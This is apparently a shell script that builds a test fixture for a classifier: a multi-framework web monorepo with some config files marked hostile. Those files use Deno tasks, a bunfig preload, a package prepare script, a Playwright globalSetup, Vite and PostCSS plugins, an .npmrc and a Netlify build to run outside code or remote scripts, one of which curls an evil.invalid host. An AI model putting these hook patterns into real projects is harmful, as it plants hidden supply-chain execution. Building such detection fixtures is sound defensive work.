#!/bin/sh
# Make the workspace (/tmp/ws22) and the directory outside it (/tmp/other22) that corpus22.jsonl was graded in.
# /tmp/ws22 is a git repository of a web front-end and edge project: a Vite app at the top (vite.config.ts,
# index.html, src/, public/sw.js a service worker), a Next.js app (apps/site, with .env.local), an Astro site
# (apps/blog), a SvelteKit app (apps/kit), Bun scripts (bunfig.toml, scripts/*.ts), a Deno edge service
# (edge/deno.json tasks and imports), Playwright and Cypress configs (e2e/, cypress/), Storybook (.storybook/),
# ESLint flat config, Prettier, Stylelint, Tailwind, PostCSS and Biome configs, a Cloudflare Worker
# (workers/edge/wrangler.toml with .dev.vars), vercel.json and netlify.toml, .env.local and .npmrc, and stub
# programs in node_modules/.bin (as an install leaves them; they only print and fail).
# Some of its files are hostile: edge/legacy/deno.json (tasks running a program outside and a remote script),
# tools/bun-legacy/bunfig.toml (preload outside), packages/legacy-widgets (package.json prepare and build scripts
# running code outside, eslint.config.js importing a plugin outside), e2e/legacy/playwright.config.ts
# (globalSetup outside), apps/legacy (postcss.config.cjs and vite.config.ts loading plugins outside,
# netlify.toml build command outside, .npmrc registry under .invalid and script-shell outside).
# Nothing here is run, and nothing here would do harm if it were: the classifier only reads these files, every
# host named by a hostile file ends in .invalid (a reserved name that never resolves), and every program named is
# under /tmp/other22 and only prints and fails.
set -e
WS=${1:-/tmp/ws22}
OTHER=${2:-/tmp/other22}
rm -rf "$WS" "$OTHER"
mkdir -p "$WS"/src/components "$WS"/src/styles "$WS"/public "$WS"/scripts "$WS"/test "$WS"/.storybook \
    "$WS"/apps/site/app "$WS"/apps/blog/src/pages "$WS"/apps/kit/src/routes "$WS"/apps/legacy/src \
    "$WS"/edge/routes "$WS"/edge/legacy "$WS"/tools/bun-legacy "$WS"/packages/ui/src \
    "$WS"/packages/legacy-widgets/src "$WS"/e2e/legacy "$WS"/cypress/e2e "$WS"/workers/edge/src \
    "$WS"/node_modules/.bin "$WS"/reports "$OTHER"/bin
cd "$WS"
cat > package.json <<'EOF'
{
  "name": "storefront-web",
  "private": true,
  "type": "module",
  "workspaces": ["apps/site", "apps/blog", "apps/kit", "packages/ui"],
  "scripts": {
    "dev": "vite",
    "build": "vite build",
    "preview": "vite preview",
    "lint": "eslint .",
    "lint:css": "stylelint \"src/**/*.css\"",
    "format": "prettier --write .",
    "format:check": "prettier --check .",
    "typecheck": "tsc --noEmit",
    "test": "vitest run",
    "test:e2e": "playwright test",
    "storybook": "storybook dev -p 6006",
    "build-storybook": "storybook build",
    "deploy": "wrangler deploy --config workers/edge/wrangler.toml"
  },
  "devDependencies": {
    "vite": "^6.0.0", "vitest": "^2.1.0", "eslint": "^9.15.0", "prettier": "^3.4.0", "typescript": "^5.7.0",
    "@playwright/test": "^1.49.0", "cypress": "^13.16.0", "storybook": "^8.4.0", "stylelint": "^16.10.0",
    "tailwindcss": "^3.4.15", "postcss": "^8.4.49", "autoprefixer": "^10.4.20", "@biomejs/biome": "^1.9.4",
    "wrangler": "^3.90.0"
  }
}
EOF
printf '%s\n' 'save-exact=true' 'engine-strict=true' 'fund=false' > .npmrc
printf '%s\n' 'node_modules/' 'dist/' '.next/' '.astro/' '.svelte-kit/' 'storybook-static/' '.wrangler/' \
    '.env.local' '.env.*.local' '.dev.vars' 'playwright-report/' 'test-results/' 'reports/' > .gitignore
printf '%s\n' 'VITE_API_URL=http://localhost:8787' 'STRIPE_SECRET_KEY=sk_test_corpus22_fixture_not_real' \
    'SENTRY_AUTH_TOKEN=corpus22-fixture-token' > .env.local
printf '%s\n' 'VITE_API_URL=http://localhost:8787' 'STRIPE_SECRET_KEY=' 'SENTRY_AUTH_TOKEN=' > .env.example
cat > vite.config.ts <<'EOF'
import { defineConfig } from "vite";

export default defineConfig({
  server: { port: 5173 },
  build: { outDir: "dist", sourcemap: true },
  test: { environment: "jsdom", setupFiles: ["./test/setup.ts"] },
});
EOF
cat > index.html <<'EOF'
<!doctype html>
<html lang="en"><head><meta charset="UTF-8" /><title>Storefront</title></head>
<body><div id="app"></div><script type="module" src="/src/main.ts"></script></body></html>
EOF
printf '%s\n' 'import "./styles/app.css";' 'import { mount } from "./components/App";' \
    'mount(document.getElementById("app")!);' \
    'if ("serviceWorker" in navigator) navigator.serviceWorker.register("/sw.js");' > src/main.ts
printf '%s\n' 'export function mount(el: HTMLElement) {' '  el.textContent = "Storefront";' '}' > src/components/App.ts
printf '%s\n' 'import type { Meta } from "@storybook/html";' 'export default { title: "App" } satisfies Meta;' \
    'export const Default = {};' > src/components/App.stories.ts
printf '%s\n' 'import { describe, it, expect } from "vitest";' 'describe("app", () => {' \
    '  it("adds", () => expect(1 + 1).toBe(2));' '});' > src/components/App.test.ts
printf '%s\n' '@tailwind base;' '@tailwind components;' '@tailwind utilities;' > src/styles/app.css
cat > public/sw.js <<'EOF'
const CACHE = "storefront-v3";
self.addEventListener("install", (event) => {
  event.waitUntil(caches.open(CACHE).then((c) => c.addAll(["/", "/index.html"])));
});
self.addEventListener("fetch", (event) => {
  event.respondWith(caches.match(event.request).then((r) => r || fetch(event.request)));
});
EOF
printf '%s\n' '{' '  "name": "Storefront",' '  "start_url": "/",' '  "display": "standalone"' '}' \
    > public/manifest.webmanifest
printf '%s\n' 'import "@testing-library/jest-dom/vitest";' > test/setup.ts
cat > tsconfig.json <<'EOF'
{
  "compilerOptions": {
    "target": "ES2022", "module": "ESNext", "moduleResolution": "bundler", "strict": true,
    "noEmit": true, "skipLibCheck": true, "lib": ["ES2022", "DOM"], "types": ["vite/client", "bun-types"]
  },
  "include": ["src", "scripts", "test"]
}
EOF
cat > eslint.config.js <<'EOF'
import js from "@eslint/js";
import tseslint from "typescript-eslint";

export default [
  { ignores: ["dist/", ".next/", "storybook-static/", "apps/legacy/", "packages/legacy-widgets/"] },
  js.configs.recommended,
  ...tseslint.configs.recommended,
];
EOF
printf '%s\n' '{' '  "semi": true,' '  "singleQuote": false,' '  "printWidth": 100' '}' > .prettierrc
printf '%s\n' 'dist' '.next' 'storybook-static' 'pnpm-lock.yaml' > .prettierignore
printf '%s\n' '{' '  "extends": ["stylelint-config-standard"],' \
    '  "rules": { "at-rule-no-unknown": [true, { "ignoreAtRules": ["tailwind"] }] }' '}' > .stylelintrc.json
cat > tailwind.config.js <<'EOF'
/** @type {import('tailwindcss').Config} */
export default {
  content: ["./index.html", "./src/**/*.{ts,tsx}"],
  theme: { extend: {} },
  plugins: [],
};
EOF
printf '%s\n' 'export default {' '  plugins: { tailwindcss: {}, autoprefixer: {} },' '};' > postcss.config.js
cat > biome.json <<'EOF'
{
  "$schema": "https://biomejs.dev/schemas/1.9.4/schema.json",
  "formatter": { "enabled": true, "indentStyle": "space" },
  "linter": { "enabled": true, "rules": { "recommended": true } },
  "files": { "ignore": ["dist", "node_modules"] }
}
EOF
printf '%s\n' '[install]' 'exact = true' '' '[test]' 'preload = ["./test/setup.ts"]' 'coverage = false' > bunfig.toml
printf '%s\n' 'const files = await Array.fromAsync(new Bun.Glob("public/icons/*.svg").scan());' \
    'console.log(`icons: ${files.length}`);' > scripts/gen-icons.ts
printf '%s\n' 'const res = await fetch("http://localhost:8787/api/health");' 'console.log(res.status);' \
    > scripts/smoke.ts
printf '%s\n' 'import { expect, test } from "bun:test";' 'test("smoke", () => expect(2 * 2).toBe(4));' \
    > scripts/smoke.test.ts
cat > playwright.config.ts <<'EOF'
import { defineConfig, devices } from "@playwright/test";

export default defineConfig({
  testDir: "./e2e",
  testIgnore: ["legacy/**"],
  use: { baseURL: "http://localhost:4173" },
  webServer: { command: "npm run preview", port: 4173, reuseExistingServer: true },
  projects: [{ name: "chromium", use: { ...devices["Desktop Chrome"] } }],
});
EOF
printf '%s\n' 'import { test, expect } from "@playwright/test";' 'test("home", async ({ page }) => {' \
    '  await page.goto("/");' '  await expect(page.getByText("Storefront")).toBeVisible();' '});' > e2e/home.spec.ts
cat > cypress.config.ts <<'EOF'
import { defineConfig } from "cypress";

export default defineConfig({
  e2e: { baseUrl: "http://localhost:4173", supportFile: false, specPattern: "cypress/e2e/**/*.cy.ts" },
});
EOF
printf '%s\n' 'describe("home", () => {' '  it("loads", () => { cy.visit("/"); cy.contains("Storefront"); });' \
    '});' > cypress/e2e/home.cy.ts
cat > .storybook/main.ts <<'EOF'
import type { StorybookConfig } from "@storybook/html-vite";

const config: StorybookConfig = {
  stories: ["../src/**/*.stories.ts"],
  framework: { name: "@storybook/html-vite", options: {} },
};
export default config;
EOF
printf '%s\n' '{' '  "buildCommand": "npm run build",' '  "outputDirectory": "dist",' \
    '  "headers": [{ "source": "/sw.js", "headers": [{ "key": "Cache-Control", "value": "no-cache" }] }]' '}' \
    > vercel.json
printf '%s\n' '[build]' '  command = "npm run build"' '  publish = "dist"' '' '[[redirects]]' '  from = "/api/*"' \
    '  to = "https://api.storefront.example.com/:splat"' '  status = 200' > netlify.toml
# Next.js app
printf '%s\n' '{' '  "name": "site",' '  "private": true,' \
    '  "scripts": { "dev": "next dev", "build": "next build", "start": "next start", "lint": "next lint" },' \
    '  "dependencies": { "next": "15.0.3", "react": "19.0.0", "react-dom": "19.0.0" }' '}' > apps/site/package.json
printf '%s\n' '/** @type {import("next").NextConfig} */' 'export default { reactStrictMode: true, output: "standalone" };' \
    > apps/site/next.config.mjs
printf '%s\n' 'export default function Page() {' '  return <main>Storefront</main>;' '}' > apps/site/app/page.tsx
printf '%s\n' 'NEXT_PUBLIC_SITE=http://localhost:3000' 'DATABASE_URL=postgres://app:corpus22-not-real@localhost/app' \
    > apps/site/.env.local
# Astro site
printf '%s\n' '{' '  "name": "blog",' '  "private": true,' \
    '  "scripts": { "dev": "astro dev", "build": "astro build", "check": "astro check" },' \
    '  "dependencies": { "astro": "^4.16.0" }' '}' > apps/blog/package.json
printf '%s\n' 'import { defineConfig } from "astro/config";' 'export default defineConfig({ site: "https://blog.example.com" });' \
    > apps/blog/astro.config.mjs
printf '%s\n' '---' 'const title = "Blog";' '---' '<h1>{title}</h1>' > apps/blog/src/pages/index.astro
# SvelteKit app
printf '%s\n' '{' '  "name": "kit",' '  "private": true,' '  "type": "module",' \
    '  "scripts": { "dev": "vite dev", "build": "vite build", "check": "svelte-kit sync && svelte-check" },' \
    '  "devDependencies": { "@sveltejs/kit": "^2.8.0", "svelte": "^5.2.0", "vite": "^6.0.0" }' '}' \
    > apps/kit/package.json
printf '%s\n' 'import adapter from "@sveltejs/adapter-auto";' 'export default { kit: { adapter: adapter() } };' \
    > apps/kit/svelte.config.js
printf '%s\n' 'import { sveltekit } from "@sveltejs/kit/vite";' 'import { defineConfig } from "vite";' \
    'export default defineConfig({ plugins: [sveltekit()] });' > apps/kit/vite.config.ts
printf '%s\n' '<h1>Kit</h1>' > apps/kit/src/routes/+page.svelte
# Shared UI package
printf '%s\n' '{' '  "name": "@storefront/ui",' '  "version": "0.3.1",' '  "type": "module",' \
    '  "scripts": { "build": "tsc -p tsconfig.json" }' '}' > packages/ui/package.json
printf '%s\n' '{ "extends": "../../tsconfig.json", "compilerOptions": { "noEmit": false, "outDir": "dist" } }' \
    > packages/ui/tsconfig.json
printf '%s\n' 'export const Button = (label: string) => `<button>${label}</button>`;' > packages/ui/src/index.ts
# Deno edge service
cat > edge/deno.json <<'EOF'
{
  "tasks": {
    "dev": "deno run --watch --allow-net=0.0.0.0:8000 --allow-read=. main.ts",
    "start": "deno run --allow-net=0.0.0.0:8000 --allow-read=. main.ts",
    "test": "deno test --allow-read=.",
    "check": "deno fmt --check && deno lint && deno check main.ts"
  },
  "imports": { "@std/http": "jsr:@std/http@^1.0.10", "@std/assert": "jsr:@std/assert@^1.0.8" },
  "fmt": { "lineWidth": 100 },
  "lint": { "rules": { "tags": ["recommended"] } }
}
EOF
printf '%s\n' 'import { route } from "./routes/api.ts";' 'Deno.serve({ port: 8000 }, route);' > edge/main.ts
printf '%s\n' 'export function route(_req: Request): Response {' '  return Response.json({ ok: true });' '}' \
    > edge/routes/api.ts
printf '%s\n' 'import { assertEquals } from "@std/assert";' 'import { route } from "./routes/api.ts";' \
    'Deno.test("ok", async () => assertEquals((await route(new Request("http://x/")).json()).ok, true));' \
    > edge/main_test.ts
printf '%s\n' 'const text = await Deno.readTextFile("./routes/api.ts");' 'console.log(text.length);' \
    > edge/report.ts
# Cloudflare Worker
printf '%s\n' 'name = "storefront-edge"' 'main = "src/index.ts"' 'compatibility_date = "2024-11-01"' '' \
    '[[kv_namespaces]]' 'binding = "CACHE"' 'id = "0f2ac74b498b48028cb68387c421e279"' '' '[[d1_databases]]' \
    'binding = "DB"' 'database_name = "storefront"' 'database_id = "4e1c28a9-90e8-41da-8b4b-6cf2a5c4ab43"' \
    > workers/edge/wrangler.toml
printf '%s\n' 'export default {' '  async fetch(): Promise<Response> {' '    return new Response("ok");' '  },' '};' \
    > workers/edge/src/index.ts
printf '%s\n' 'API_TOKEN=corpus22-fixture-not-real' > workers/edge/.dev.vars
# Stubs where an install would leave the tools: they only print and fail
for t in vite vitest eslint prettier tsc playwright cypress storybook stylelint tailwindcss postcss biome \
    wrangler next astro svelte-kit svelte-check; do
    printf '%s\n' '#!/bin/sh' 'echo "corpus22 fixture stub: never run" >&2' 'exit 1' > node_modules/.bin/$t
    chmod 755 node_modules/.bin/$t
done
printf '%s\n' '# Storefront web' '' 'Vite app, Next.js site, Astro blog, SvelteKit, Deno edge, Cloudflare Worker.' \
    > README.md
# Hostile: a Deno project whose tasks run a program outside and a remote script
cat > edge/legacy/deno.json <<'EOF'
{
  "tasks": {
    "sync": "/tmp/other22/bin/sync --all",
    "build": "deno run -A https://cdn.evil.invalid/build.ts",
    "test": "deno test --allow-read=."
  },
  "imports": { "helpers/": "https://cdn.evil.invalid/helpers/" }
}
EOF
printf '%s\n' 'console.log("legacy edge");' > edge/legacy/main.ts
# Hostile: bunfig preloads outside
printf '%s\n' 'preload = ["/tmp/other22/preload.ts"]' '' '[test]' 'preload = ["/tmp/other22/preload.ts"]' \
    > tools/bun-legacy/bunfig.toml
printf '%s\n' '{ "name": "bun-legacy", "private": true, "scripts": { "start": "bun run index.ts" } }' \
    > tools/bun-legacy/package.json
printf '%s\n' 'console.log("legacy");' > tools/bun-legacy/index.ts
printf '%s\n' 'import { test, expect } from "bun:test";' 'test("x", () => expect(1).toBe(1));' \
    > tools/bun-legacy/index.test.ts
# Hostile: a package whose lifecycle and build scripts and ESLint config run code outside
cat > packages/legacy-widgets/package.json <<'EOF'
{
  "name": "@storefront/legacy-widgets",
  "version": "1.4.0",
  "scripts": {
    "prepare": "node /tmp/other22/prepare.js",
    "build": "/tmp/other22/bin/build --out dist",
    "lint": "eslint ."
  }
}
EOF
printf '%s\n' 'import legacy from "/tmp/other22/eslint-plugin.js";' \
    'export default [{ plugins: { legacy }, rules: { "legacy/all": "error" } }];' \
    > packages/legacy-widgets/eslint.config.js
printf '%s\n' 'export const widget = 1;' > packages/legacy-widgets/src/index.js
# Hostile: Playwright globalSetup outside
cat > e2e/legacy/playwright.config.ts <<'EOF'
import { defineConfig } from "@playwright/test";

export default defineConfig({
  testDir: ".",
  globalSetup: "/tmp/other22/global-setup.js",
});
EOF
printf '%s\n' 'import { test } from "@playwright/test";' 'test("legacy", async () => {});' > e2e/legacy/old.spec.ts
# Hostile: an app whose PostCSS and Vite plugins, Netlify build and .npmrc run code outside
printf '%s\n' '{' '  "name": "legacy-app",' '  "private": true,' \
    '  "scripts": { "build": "vite build", "dev": "vite" },' '  "devDependencies": { "vite": "^5.4.0" }' '}' \
    > apps/legacy/package.json
printf '%s\n' 'registry=https://registry.npm.evil.invalid/' 'script-shell=/tmp/other22/bin/sh' > apps/legacy/.npmrc
printf '%s\n' 'module.exports = {' '  plugins: [require("/tmp/other22/postcss-plugin.cjs")()],' '};' \
    > apps/legacy/postcss.config.cjs
printf '%s\n' 'import { defineConfig } from "vite";' 'import legacy from "/tmp/other22/vite-plugin.js";' \
    'export default defineConfig({ plugins: [legacy()] });' > apps/legacy/vite.config.ts
printf '%s\n' '[build]' '  command = "/tmp/other22/bin/build && curl -s https://hooks.evil.invalid/built"' \
    '  publish = "dist"' > apps/legacy/netlify.toml
printf '%s\n' 'body { color: red; }' > apps/legacy/src/app.css
printf '%s\n' '<!doctype html><div id="app"></div>' > apps/legacy/index.html
git init -q -b main
git -c user.name=corpus22 -c user.email=corpus22@example.invalid add -A
git -c user.name=corpus22 -c user.email=corpus22@example.invalid commit -q -m 'ws22 fixture'
# Outside the workspace: programs that only print and fail, and code that would run them
cd "$OTHER"
printf '%s\n' '#!/bin/sh' 'echo "corpus22 fixture: never run" >&2' 'exit 1' > bin/x
chmod 755 bin/x
cp bin/x bin/sync
cp bin/x bin/build
cp bin/x bin/sh
for f in preload.ts prepare.js eslint-plugin.js global-setup.js vite-plugin.js x.ts x.js; do
    printf '%s\n' 'console.error("corpus22 fixture: never run");' 'throw new Error("never run");' > "$f"
done
printf '%s\n' 'module.exports = () => { throw new Error("corpus22 fixture: never run"); };' > postcss-plugin.cjs
printf '%s\n' '{ "tasks": { "build": "/tmp/other22/bin/x" } }' > deno.json
printf '%s\n' 'export default { plugins: [] };' > eslint.config.js
printf '%s\n' 'export default { plugins: [] };' > vite.config.js
